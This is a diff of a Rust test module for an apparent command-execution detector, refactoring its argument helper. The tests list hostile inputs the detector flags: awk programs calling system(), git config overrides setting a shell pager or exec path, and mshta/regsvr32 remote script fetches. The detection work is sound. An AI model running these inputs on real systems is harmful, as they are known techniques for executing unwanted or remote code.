@@ -578,16 +578,7 @@ fn powershell<'a>(rest: &[Arg<'a>], windows: bool) -> Option<Arg<'a>> {
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::manifest::span::Span;
-
-    fn args(v: &[&'static str]) -> Vec<Arg<'static>> {
-        v.iter()
-            .map(|t| Arg {
-                text: t,
-                span: Span::default(),
-            })
-            .collect()
-    }
+    use crate::security::launch::test_argv;
 
     #[test]
     fn inline_code_that_downloads_and_runs() {
@@ -608,11 +599,11 @@ mod tests {
 
     #[test]
     fn awk_programs_that_run_commands() {
-        assert!(awk(&args(&["BEGIN{system(\"id\")}"])).is_some());
-        assert!(awk(&args(&["-v", "x=1", "{ \"date\" | getline d }"])).is_some());
-        assert!(awk(&args(&["-l", "filefuncs", "{print}"])).is_some());
-        assert!(awk(&args(&["-F", ":", "{print $1}", "f"])).is_none());
-        assert!(awk(&args(&["-f", "x.awk", "f"])).is_none());
+        assert!(awk(&test_argv(&["BEGIN{system(\"id\")}"])).is_some());
+        assert!(awk(&test_argv(&["-v", "x=1", "{ \"date\" | getline d }"])).is_some());
+        assert!(awk(&test_argv(&["-l", "filefuncs", "{print}"])).is_some());
+        assert!(awk(&test_argv(&["-F", ":", "{print $1}", "f"])).is_none());
+        assert!(awk(&test_argv(&["-f", "x.awk", "f"])).is_none());
     }
 
     #[test]
@@ -622,9 +613,9 @@ mod tests {
         assert!(git_setting_runs("filter.lfs.smudge=x"));
         assert!(!git_setting_runs("color.ui=never"));
         assert!(!git_setting_runs("user.name=Bot"));
-        assert!(git_config(&args(&["-c", "core.pager=sh", "log"])).is_some());
-        assert!(git_config(&args(&["--exec-path=/tmp", "status"])).is_some());
-        assert!(git_config(&args(&["log", "-c", "core.pager=sh"])).is_none());
+        assert!(git_config(&test_argv(&["-c", "core.pager=sh", "log"])).is_some());
+        assert!(git_config(&test_argv(&["--exec-path=/tmp", "status"])).is_some());
+        assert!(git_config(&test_argv(&["log", "-c", "core.pager=sh"])).is_none());
     }
     #[test]
     fn a_launched_package_at_a_version_is_its_program() {
@@ -647,15 +638,15 @@ mod tests {
 
     #[test]
     fn windows_script_hosts() {
-        assert!(script_host_fetch("mshta", &args(&["https://x.example/a.hta"])).is_some());
+        assert!(script_host_fetch("mshta", &test_argv(&["https://x.example/a.hta"])).is_some());
         assert!(
             script_host_fetch(
                 "regsvr32",
-                &args(&["/s", "/i:https://x/a.sct", "scrobj.dll"])
+                &test_argv(&["/s", "/i:https://x/a.sct", "scrobj.dll"])
             )
             .is_some()
         );
-        assert!(script_host_fetch("regsvr32", &args(&["/s", "local.dll"])).is_none());
+        assert!(script_host_fetch("regsvr32", &test_argv(&["/s", "local.dll"])).is_none());
         assert!(script_url_scheme(
             "javascript:\\..\\mshtml,RunHTMLApplication"
         ));
